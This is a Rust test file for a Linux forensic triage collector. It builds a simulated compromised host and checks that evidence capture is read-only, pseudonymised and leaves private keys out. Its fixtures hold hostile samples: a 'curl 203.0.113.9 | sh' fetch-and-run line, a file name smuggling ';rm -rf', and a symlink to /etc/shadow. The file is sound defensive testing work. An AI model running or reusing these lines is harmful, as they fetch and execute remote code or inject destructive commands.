#![cfg(test)]
#![cfg(all(feature = "linux", target_os = "linux"))]
//! Our own agent on a machine that is made up, with all that is hostile about file systems.

use homeostat_core::Timestamp;
use homeostat_forensics::{
    AssetKind, Capture, CapturePlan, Custody, Deed, DirectoryStore, Ending, EvidenceStore as _, LinuxTriage,
    Manifest, Order, Profile, Progress, Unwatched, Ways, conformance, verify,
};
use homeostat_response::{ActionId, FileStorage, PseudonymKey, Target, TargetKind};
use std::ffi::OsStr;
use std::fs;
use std::io::Read as _;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

fn put(root: &Path, path: &str, content: &str) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

/// A machine with two people, one process, a listener and a beacon, and temporary files that mean harm.
fn machine(root: &Path) {
    put(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000::/home/jane:/bin/bash\nmallory:x:1001:1001::/../../home/../etc:/bin/sh\n",
    );
    put(root, "etc/group", "sudo:x:27:jane\n");
    put(root, "etc/crontab", "* * * * * root /tmp/x\n");
    put(root, "home/jane/.ssh/authorized_keys", "ssh-ed25519 AAAA jane\n");
    put(root, "home/jane/.ssh/id_ed25519", "PRIVATE");
    put(root, "home/jane/.bash_history", "curl 203.0.113.9 | sh\n");
    put(
        root,
        "var/log/auth.log",
        "Mar 16 08:30:00 web-1 sshd[7]: Accepted publickey for jane from 192.0.2.7 port 50000 ssh2\n",
    );
    put(root, "var/log/auth.log.1", "");
    put(root, "proc/sys/kernel/hostname", "web-1\n");
    put(root, "proc/stat", "cpu 1\nbtime 1773619200\n");
    put(root, "proc/7/stat", "7 (a ) (b) S 1 7 7 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 12345 0\n");
    put(root, "proc/7/status", "Name:\ta\nUid:\t1000\t1000\t1000\t1000\n");
    put(root, "proc/7/cmdline", "sh\0-c\0curl 203.0.113.9\0");
    put(root, "proc/8/stat", "not a stat");
    let head =
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
    let listener =
        "   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 11 1\n";
    let beacon =
        "   1: 0700000A:C350 097100CB:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 12 1\n";
    put(root, "proc/net/tcp", &format!("{head}{listener}{beacon}garbage\n"));
    put(root, "tmp/tool", "\u{7f}ELF");
    put(root, "tmp/large", &"x".repeat(5_000));
    fs::write(root.join("tmp").join(OsStr::from_bytes(b"\xff\n;rm -rf")), "odd").unwrap();
    symlink("/etc/shadow", root.join("tmp/link")).unwrap();
    symlink(root, root.join("tmp/loop")).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(root.join("tmp/pipe")).status().unwrap().success());
    (0..40).fold(root.join("tmp"), |folder, number| {
        let folder = folder.join(number.to_string());
        fs::create_dir(&folder).unwrap();
        folder
    });
}

fn order() -> Order {
    let target = Target::new(TargetKind::Host, "web-1").with("os", "linux");
    Order::new(ActionId::new("triage").unwrap(), target, CapturePlan::of(AssetKind::Linux, Profile::Triage))
}

fn capture(root: &Path, folder: &Path) -> (Custody<FileStorage>, DirectoryStore) {
    let store = DirectoryStore::open(folder).unwrap();
    let mut custody = Custody::in_folder(folder, PseudonymKey::new([7; 32])).unwrap();
    let triage = LinuxTriage::new().below(root).limits(4_096, 1_000);
    let (order, start) = (order(), Timestamp::from_millis(1_773_649_800_000));
    let ways = Ways { collectors: &[Arc::new(triage)], store: &store, watch: &Unwatched };
    let end = Capture::open(&order, ways, &mut custody).unwrap().run(start, &mut |until| until).unwrap();
    assert!(matches!(end, Progress::Done(_)));
    (custody, store)
}

fn text(store: &DirectoryStore, manifest: &Manifest, item: &str) -> String {
    let piece =
        manifest.pieces.iter().find(|piece| piece.item == item).unwrap_or_else(|| panic!("{item} is in"));
    let mut text = String::new();
    store.open(&piece.digest).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn a_made_up_machine_is_captured_and_nothing_of_it_is_changed() {
    let (root, folder) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    machine(root.path());
    let odd = root.path().join("tmp/tool");
    let before = fs::metadata(&odd).unwrap();
    std::thread::sleep(Duration::from_millis(20));
    let (custody, store) = capture(root.path(), folder.path());
    let after = fs::metadata(&odd).unwrap();
    assert_eq!(
        (before.atime_nsec(), before.mtime_nsec()),
        (after.atime_nsec(), after.mtime_nsec()),
        "read and unmarked"
    );

    let manifest = Manifest::of(&custody, &order().id);
    assert!(text(&store, &manifest, "/home/jane/.ssh/authorized_keys").starts_with("ssh-ed25519"));
    assert_eq!(text(&store, &manifest, "/tmp/link"), "/etc/shadow", "a link is its text, never followed");
    assert_eq!(text(&store, &manifest, "/tmp/\\xff\n;rm -rf"), "odd");
    let processes = text(&store, &manifest, "processes.jsonl");
    assert!(
        processes.contains(r#""name":"a ) (b""#) && processes.contains(r#""user":"jane""#),
        "{processes}"
    );
    assert!(processes.contains(r#""started":"2026-03-16T00:02:03.450000Z""#), "{processes}");
    let connections = text(&store, &manifest, "connections.jsonl");
    assert!(
        connections.contains(r#""remote_ip":"203.0.113.9""#) && connections.contains(r#""state":"listen""#)
    );
    assert!(!manifest.pieces.iter().any(|piece| piece.item.contains("id_ed25519")), "private keys stay");
    let missed: Vec<&Deed> = custody.records().iter().map(|record| &record.deed).collect();
    for (path, why) in [("/tmp/pipe", "take what is no file"), ("/tmp/large", "take a file of that size")] {
        let told = missed
            .iter()
            .any(|deed| matches!(deed, Deed::Missed { item, reason, .. } if item == path && reason == why));
        assert!(told, "{path}");
    }
    assert!(
        missed
            .iter()
            .any(|deed| matches!(deed, Deed::Missed { reason, .. } if reason.contains("within the limit")))
    );
    assert_eq!(
        (manifest.endings["temporary_files"], manifest.endings["processes"]),
        (Ending::Partly, Ending::Whole)
    );
    let log = fs::read(folder.path().join("custody.log")).unwrap();
    assert!(!String::from_utf8_lossy(&log).contains("jane"), "people are pseudonyms in the chain");
    assert!(verify(&log, &store, Some(custody.head())).unwrap().is_sound());
    let about: Vec<_> = custody.about("jane").collect();
    assert_eq!(about.len(), 2, "keys and history");
}

#[test]
fn what_may_not_be_read_is_told() {
    let (root, folder) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    machine(root.path());
    let log = root.path().join("var/log/auth.log");
    fs::set_permissions(&log, fs::Permissions::from_mode(0o000)).unwrap();
    if fs::File::open(&log).is_ok() {
        return; // root reads everything
    }
    let (custody, _) = capture(root.path(), folder.path());
    assert_eq!(Manifest::of(&custody, &order().id).endings["logs"], Ending::Partly);
}

#[test]
fn our_own_agent_keeps_the_laws() {
    let root = tempfile::tempdir().unwrap();
    machine(root.path());
    let order = order();
    conformance::collector_laws(&LinuxTriage::new().below(root.path()), &order.target, order.plan.steps())
        .unwrap();
}
